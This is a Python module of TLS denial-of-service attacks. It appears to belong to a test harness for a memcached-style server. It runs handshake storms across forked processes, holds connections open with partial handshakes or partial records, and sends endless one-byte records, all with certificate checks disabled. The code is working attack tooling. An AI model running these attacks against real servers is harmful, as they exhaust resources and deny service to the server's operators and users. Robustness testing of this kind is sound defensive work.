"""Attacks on TLS: handshakes without end or without a rest, unfinished records, and records of a single byte."""

from __future__ import annotations

import contextlib
import itertools
import os
import socket
import ssl
import struct

from attacker import Target

RESET = struct.pack("ii", 1, 0)  # SO_LINGER: close sends a reset, and leaves no port in TIME_WAIT


def careless() -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


class Peer:
    """A session whose encrypted bytes go to the socket as the attack likes."""

    def __init__(self, target: Target, port: int) -> None:
        self.plain = socket.create_connection((target.address[0], port))
        self.incoming, self.outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = careless().wrap_bio(self.incoming, self.outgoing)

    def hello(self) -> bytes:
        with contextlib.suppress(ssl.SSLWantReadError):
            self.tls.do_handshake()
        return self.outgoing.read()

    def shake(self) -> None:
        while True:
            try:
                self.tls.do_handshake()
            except ssl.SSLWantReadError:
                self.plain.sendall(self.outgoing.read())
                self.incoming.write(self.plain.recv(65536))
            else:
                self.plain.sendall(self.outgoing.read())
                return


def storm(target: Target, port: int, processes: int) -> None:
    """Shakes hands as fast as possible, in several processes."""
    context = careless()
    for _ in range(processes - 1):
        if os.fork() == 0:
            break
    else:
        target.ready()
    while True:
        with socket.create_connection((target.address[0], port)) as plain:
            plain.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
            context.wrap_socket(plain).close()


def half_handshakes(target: Target, port: int, count: int) -> None:
    """Keeps handshakes with a part of the first flight, or the whole flight."""
    kept = [Peer(target, port) for _ in range(count)]
    for peer, part in zip(kept, itertools.cycle((0, 1, 5, 100, None)), strict=False):
        peer.plain.sendall(peer.hello()[:part])
    target.ready()
    target.stay()


def half_records(target: Target, port: int, count: int) -> None:
    """Keeps sessions in the middle of a record, or of a value between two records."""
    kept = [Peer(target, port) for _ in range(count)]
    for peer, part in zip(kept, itertools.cycle((1, 5, 16000, None)), strict=False):
        peer.shake()
        peer.tls.write(b"set half 0 0 100000\r\n" + bytes(16000))
        peer.plain.sendall(peer.outgoing.read()[:part])
    target.ready()
    target.stay()


def tiny_records(target: Target, port: int) -> None:
    """Stores values without end, each byte in a record of its own."""
    peer = Peer(target, port)
    peer.shake()
    target.ready()
    while True:
        peer.tls.write(b"set tiny 0 0 100000 noreply\r\n")
        for _ in range(100):
            for _ in range(1000):
                peer.tls.write(b"x")
            peer.plain.sendall(peer.outgoing.read())
        peer.tls.write(b"\r\n")
        peer.plain.sendall(peer.outgoing.read())
